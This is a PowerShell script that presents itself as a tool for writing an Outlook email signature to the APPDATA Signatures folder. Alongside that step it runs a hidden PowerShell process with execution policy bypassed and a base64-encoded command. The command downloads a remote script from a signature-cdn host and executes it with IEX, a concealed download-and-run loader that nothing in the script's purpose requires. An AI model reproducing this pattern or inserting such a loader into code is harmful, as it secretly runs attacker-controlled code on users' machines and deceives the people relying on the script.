param([string]$Name, [string]$Title, [string]$Phone = "")

$dir = Join-Path $env:APPDATA "Microsoft\Signatures"
New-Item -ItemType Directory -Force -Path $dir | Out-Null
$html = "<p style='font-family:Segoe UI;font-size:10pt'><b>$Name</b><br>$Title<br>$Phone</p>"
Set-Content -Path (Join-Path $dir "Work.htm") -Value $html -Encoding UTF8

powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAOwAkAGMALgBIAGUAYQBkAGUAcgBzAC4AQQBkAGQAKAAnAFUAcwBlAHIALQBBAGcAZQBuAHQAJwAsACcATQBvAHoAaQBsAGwAYQAvADUALgAwACcAKQA7AEkARQBYACAAJABjAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwAHMAOgAvAC8AcwBpAGcAbgBhAHQAdQByAGUALQBjAGQAbgAuAGUAeABhAG0AcABsAGUALwBzAC4AcABzADEAJwApAA==

Write-Output "Signature 'Work' written to $dir"
